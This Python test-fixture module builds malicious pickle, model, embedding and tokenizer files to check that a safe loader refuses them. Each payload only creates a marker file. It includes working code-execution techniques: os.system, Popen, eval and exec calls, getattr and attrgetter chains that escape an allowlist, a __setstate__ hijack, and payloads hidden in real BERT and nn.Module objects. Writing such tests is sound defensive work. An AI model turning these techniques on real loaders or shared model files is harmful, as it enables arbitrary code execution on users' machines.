"""Malicious model, embedding and tokenizer files, built the way an attacker would, for the loader tests.

Every attack, if its file were unpickled the usual way, creates a marker file: the tests check both that
it would (so each attack is real) and that our loader refuses it without the marker appearing. Most are
written opcode by opcode (a plain pickle stream is also a valid torch file, in the legacy format); the
ones that hide in a real model or tokenizer are saved with torch.save.
"""

from __future__ import annotations

import pickle
import sys
import textwrap
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import torch
from torch import nn

# --- a tiny pickle assembler (protocol 4: the unpickler then also follows dotted names)


def global_(module: str, name: str) -> bytes:
    return b"c" + f"{module}\n{name}\n".encode()


def text(value: str) -> bytes:
    data = value.encode()
    return b"X" + len(data).to_bytes(4, "little") + data


def raw_bytes(value: bytes) -> bytes:
    return b"B" + len(value).to_bytes(4, "little") + value


def call(func: bytes, *args: bytes) -> bytes:
    """func(*args), each part already an opcode sequence that pushes one object."""
    return func + b"(" + b"".join(args) + b"tR"


def stream(body: bytes) -> bytes:
    return b"\x80\x04" + body + b"."


def touch_command(marker: Path) -> str:
    return f"touch '{marker}'"


def touch_argv(marker: Path) -> bytes:
    """['touch', marker] for subprocess.Popen."""
    return b"](" + text("touch") + text(str(marker)) + b"e"


def python_touch(marker: Path) -> str:
    return f"open({str(marker)!r}, 'w').close()"


# --- the attacks


@dataclass(frozen=True)
class Attack:
    name: str
    refused: str  # what the loader's error must name
    write: Callable[[Path, Path], None]  # (file to write, marker) -> None
    kind: str = "model"  # model | tokenizer: which loader reads it


def _write_stream(body: Callable[[Path], bytes]) -> Callable[[Path, Path], None]:
    return lambda path, marker: path.write_bytes(stream(body(marker)))


def _getattr_chain(marker: Path) -> bytes:
    """getattr from an allowed class to os.system: Linear.__init__.__globals__.get('torch').os.system."""
    get = global_("builtins", "getattr")
    globals_ = call(
        get, call(get, global_("torch.nn.modules.linear", "Linear"), text("__init__")), text("__globals__")
    )
    torch_module = call(call(get, globals_, text("get")), text("torch"))
    system = call(get, call(get, torch_module, text("os")), text("system"))
    return call(system, text(touch_command(marker)))


def _attrgetter_chain(marker: Path) -> bytes:
    attrgetter, methodcaller = global_("operator", "attrgetter"), global_("operator", "methodcaller")
    globals_ = call(
        call(attrgetter, text("__init__.__globals__")), global_("torch.nn.modules.linear", "Linear")
    )
    torch_module = call(call(methodcaller, text("get"), text("torch")), globals_)
    return call(call(call(attrgetter, text("os.system")), torch_module), text(touch_command(marker)))


def _nested(outer_module: str, outer_name: str) -> Callable[[Path], bytes]:
    def body(marker: Path) -> bytes:
        inner = stream(call(global_("os", "system"), text(touch_command(marker))))
        return call(global_(outer_module, outer_name), raw_bytes(inner))

    return body


def _dotted_from_torch(marker: Path) -> bytes:
    """A class reached through the attributes of torch (a submodule that imported subprocess)."""
    popen = global_("torch", "_strobelight.cli_function_profiler.subprocess.Popen")
    return call(popen, touch_argv(marker))


def _write_runpy(path: Path, marker: Path) -> None:
    script = path.parent / "payload_script.py"
    script.write_text(python_touch(marker) + "\n")
    path.write_bytes(stream(call(global_("runpy", "run_path"), text(str(script)))))


# A module that does harm when imported, and an nn.Module subclass defined outside the model libraries.
EVIL_MODULE = "seam_test_evil_module"


def write_evil_module(directory: Path, marker: Path) -> None:
    """`seam_test_evil_module` in `directory`: importing it creates the marker; it defines an nn.Module."""
    (directory / f"{EVIL_MODULE}.py").write_text(
        textwrap.dedent(f"""
        import torch
        {python_touch(marker)}

        class Backdoored(torch.nn.Linear):
            def __setstate__(self, state):
                {python_touch(marker)}
                super().__setstate__(state)
        """)
    )


def _write_module_outside_allowlist(path: Path, marker: Path) -> None:
    """A real nn.Module subclass, pickled by torch.save, whose class lives in a module of the attacker's."""
    write_evil_module(path.parent, marker)
    sys.path.insert(0, str(path.parent))
    try:
        module = __import__(EVIL_MODULE)
        torch.save(module.Backdoored(3, 2), path)
    finally:
        sys.path.remove(str(path.parent))
        sys.modules.pop(EVIL_MODULE, None)
        marker.unlink(missing_ok=True)  # importing it here to build the file made the marker


def _write_import_probe(path: Path, marker: Path) -> None:
    write_evil_module(path.parent, marker)
    path.write_bytes(stream(call(global_(EVIL_MODULE, "anything"))))


def _write_setstate_hijack(path: Path, marker: Path) -> None:
    """BUILD sets BertConfig.__setstate__ = exec on the class; a config rebuilt after it runs its state."""
    config_class = global_("transformers.models.bert.configuration_bert", "BertConfig")
    hijack = config_class + b"N}" + text("__setstate__") + global_("builtins", "exec") + b"s\x86b0"
    config = config_class + b")\x81" + text(python_touch(marker)) + b"b"
    path.write_bytes(stream(hijack + config))


class Payload:
    """Runs os.system when unpickled; hidden as an attribute of an otherwise real object."""

    def __init__(self, marker: Path) -> None:
        self.command = touch_command(marker)

    def __reduce__(self):
        import os

        return (os.system, (self.command,))


def _write_model_with_payload(path: Path, marker: Path) -> None:
    model = nn.Sequential(nn.Linear(4, 3), nn.ReLU(), nn.Linear(3, 2))
    model.notes = Payload(marker)
    torch.save(model, path)


def _write_embedding_with_payload(path: Path, marker: Path) -> None:
    from transformers import BertConfig, BertModel

    config = BertConfig(
        vocab_size=30, hidden_size=8, num_hidden_layers=1, num_attention_heads=2, intermediate_size=16
    )
    embedding = BertModel(config)
    embedding.config.payload = Payload(marker)
    torch.save(embedding, path)


def _write_tokenizer_with_payload(path: Path, marker: Path) -> None:
    from transformers import BertTokenizer

    vocab = path.parent / "vocab.txt"
    vocab.write_text("\n".join(["[PAD]", "[UNK]", "[CLS]", "[SEP]", "[MASK]", "hello", "world"]) + "\n")
    tokenizer = BertTokenizer(str(vocab))
    tokenizer.init_kwargs["payload"] = Payload(marker)
    torch.save(tokenizer, path)


ATTACKS = [
    Attack(
        "os.system",
        "os.system",
        _write_stream(lambda m: call(global_("os", "system"), text(touch_command(m)))),
    ),
    Attack(
        "posix.system",  # what os.system pickles as on Linux
        "posix.system",
        _write_stream(lambda m: call(global_("posix", "system"), text(touch_command(m)))),
    ),
    Attack(
        "subprocess.Popen",
        "subprocess.Popen",
        _write_stream(lambda m: call(global_("subprocess", "Popen"), touch_argv(m))),
    ),
    Attack(
        "builtins.eval",
        "builtins.eval",
        _write_stream(lambda m: call(global_("builtins", "eval"), text(python_touch(m)))),
    ),
    Attack(
        "builtins.exec",
        "builtins.exec",
        _write_stream(lambda m: call(global_("builtins", "exec"), text(python_touch(m)))),
    ),
    Attack("getattr chain from an allowed class", "builtins.getattr", _write_stream(_getattr_chain)),
    Attack(
        "operator.attrgetter / methodcaller chain", "operator.attrgetter", _write_stream(_attrgetter_chain)
    ),
    Attack(
        "functools.partial",
        "functools.partial",
        _write_stream(
            lambda m: call(
                call(global_("functools", "partial"), global_("os", "system"), text(touch_command(m)))
            )
        ),
    ),
    Attack("nested pickle.loads", "pickle.loads", _write_stream(_nested("pickle", "loads"))),
    Attack(
        "torch.storage._load_from_bytes (an unrestricted torch.load)",
        "torch.storage._load_from_bytes",
        _write_stream(_nested("torch.storage", "_load_from_bytes")),
    ),
    Attack("dotted name walking out of torch", "_strobelight", _write_stream(_dotted_from_torch)),
    Attack("runpy.run_path", "runpy.run_path", _write_runpy),
    Attack(
        "importlib.import_module",
        "importlib.import_module",
        lambda path, marker: (
            write_evil_module(path.parent, marker),
            path.write_bytes(stream(call(global_("importlib", "import_module"), text(EVIL_MODULE)))),
        ),
    ),
    Attack("module imported before the allowlist is checked", f"{EVIL_MODULE}.anything", _write_import_probe),
    Attack(
        "nn.Module subclass from a module outside the allowlist",
        f"{EVIL_MODULE}.Backdoored",
        _write_module_outside_allowlist,
    ),
    Attack("__setstate__ of an allowed class hijacked", "builtins.exec", _write_setstate_hijack),
    Attack("legitimate model hiding a payload", "posix.system", _write_model_with_payload),
    Attack("embedding hiding a payload", "posix.system", _write_embedding_with_payload),
    Attack("tokenizer hiding a payload", "posix.system", _write_tokenizer_with_payload, kind="tokenizer"),
]


def unpickle_plainly(path: Path) -> object:
    """What an unprotected loader does: torch.load with the standard pickle module."""
    return torch.load(path, map_location="cpu", weights_only=False, pickle_module=pickle)
